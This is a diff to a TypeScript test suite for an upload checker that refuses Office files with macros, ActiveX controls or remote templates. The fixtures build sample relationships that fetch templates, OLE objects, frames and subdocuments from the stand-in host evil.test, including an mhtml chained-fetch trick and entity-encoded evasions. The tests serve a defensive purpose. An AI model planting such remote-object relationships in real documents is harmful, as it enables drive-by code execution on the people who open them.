@@ -34,6 +34,12 @@ const CARRIED = Buffer.concat([
 const settingsRels = (mode: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/a.dotm"${mode}/></Relationships>`
 
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const relation = (type: string, target: string, isElsewhere = true) =>
+  `<Relationship Id="r" Type="${OFFICE}/${type}" Target="${target}"${isElsewhere ? ' TargetMode="External"' : ''}/>`
+const withRelations = (...relations: readonly string[]) =>
+  zip({ ...DOCX, 'word/_rels/document.xml.rels': `<Relationships>${relations.join('')}</Relationships>` })
+
 describe('an Office file', () => {
   test.each([
     ['a Word document', 'docx', bytesOf(docx())],
@@ -67,6 +73,43 @@ describe('an Office file', () => {
         ...DOCX,
         'word/_rels/document.xml.rels':
           '<Relationship Type="x/hyperlink" Target="https://a.ru/attachedTemplate" TargetMode="External"/>',
+      }),
+    ],
+    [
+      'a document with links, linked pictures and an object of its own',
+      'docx',
+      withRelations(
+        relation('hyperlink', 'https://a.ru/oleObject'),
+        relation('image', 'https://a.ru/logo.png'),
+        relation('oleObject', 'embeddings/oleObject1.bin', false),
+      ),
+    ],
+    [
+      'a workbook that takes figures from another one',
+      'xlsx',
+      zip({
+        ...XLSX,
+        'xl/externalLinks/_rels/externalLink1.xml.rels': relation('externalLinkPath', 'file:///C:/rates.xlsx'),
+      }),
+    ],
+    [
+      'a workbook with the fields of a form',
+      'xlsx',
+      zip({
+        ...XLSX,
+        'xl/ctrlProps/ctrlProp1.xml': '<formControlPr objectType="CheckBox"/>',
+        'xl/worksheets/_rels/sheet1.xml.rels': relation('ctrlProp', '../ctrlProps/ctrlProp1.xml', false),
+      }),
+    ],
+    [
+      'a document with the fields of a form',
+      'docx',
+      zip({
+        ...DOCX,
+        'word/document.xml': DOCX['word/document.xml'].replace(
+          '<w:t>',
+          '<w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/></w:ffData></w:fldChar><w:instrText> FORMTEXT </w:instrText><w:fldChar w:fldCharType="end"/><w:t>',
+        ),
       }),
     ],
   ])('that is %s is taken', async (_, extension, content) => {
@@ -107,6 +150,15 @@ describe('an Office file', () => {
         ),
       }),
     ],
+    ['a control (ActiveX)', 'xlsx', zip({ ...XLSX, 'xl/activeX/activeX1.xml': '<x/>' })],
+    ['the content of a control (ActiveX)', 'docx', zip({ ...DOCX, 'word/activeX/activeX1.bin': 'x' })],
+    [
+      'a control (ActiveX) under another name',
+      'docx',
+      zip({ ...DOCX, '[Content_Types].xml': withType('application/vnd.ms-office.activeX+xml'), 'word/x.bin': 'x' }),
+    ],
+    ['a control (ActiveX) that only a relation names', 'docx', withRelations(relation('control', 'x.xml', false))],
+    ['a control (ActiveX) of old', 'xls', compound({ Workbook: workbook(0), Ctls: Buffer.from('x') })],
     ['a sheet of macros', 'xlsx', zip({ ...XLSX, 'xl/macrosheets/sheet1.xml': '<x/>' })],
     [
       'macros of old',
@@ -149,6 +201,18 @@ describe('an Office file', () => {
     ['in UTF-16', Buffer.from(settingsRels(' TargetMode="External"'), 'utf16le')],
   ])('with a template from elsewhere, named %s, is refused', async (_, rels) => {
     expect(await judgeOffice(zip({ ...DOCX, 'word/_rels/settings.xml.rels': rels }), 'docx')).toBe('template')
+  })
+
+  test.each([
+    ['an object', relation('oleObject', 'https://evil.test/a.html')],
+    ['an object by a chain of programs', relation('oleObject', 'mhtml:https://evil.test/a!x-usc:https://evil.test/a')],
+    ['a picture by a chain of programs', relation('image', 'mhtml:https://evil.test/a')],
+    ['a frame', relation('frame', 'https://evil.test/a.html')],
+    ['a part of the document', relation('subDocument', 'https://evil.test/a.docx')],
+    ['an object whose place is written in references', relation('oleObject', 'x').replace('External', '&#69;xternal')],
+    ['an object behind a reference', relation('oleObject', 'x').replace('Id="r"', 'Id="&#60;"')],
+  ])('that fetches %s from elsewhere when it is opened is refused', async (_, named) => {
+    expect(await judgeOffice(withRelations(named), 'docx')).toBe('template')
   })
 
   test('with files in files without an end is refused', async () => {
@@ -206,7 +270,11 @@ describe('at the door', () => {
   afterAll(() => application.close())
 
   test.each([
-    ['macros', zip({ ...DOCX, 'word/vbaProject.bin': 'x' }), 'Документы с макросами не принимаются'],
+    [
+      'macros',
+      zip({ ...DOCX, 'word/vbaProject.bin': 'x' }),
+      'Документы с макросами и элементами ActiveX не принимаются',
+    ],
     ['a bomb', packed(30 * MB), 'Файл распаковывается больше чем в 100 раз или больше чем в 200 МБ'],
     ['a made-up document', zip({ 'a.txt': 'a' }), 'Содержимое файла не соответствует расширению docx'],
   ])('%s is an error of its field, and others are served while it is judged', async (_, content, defaultMessage) => {
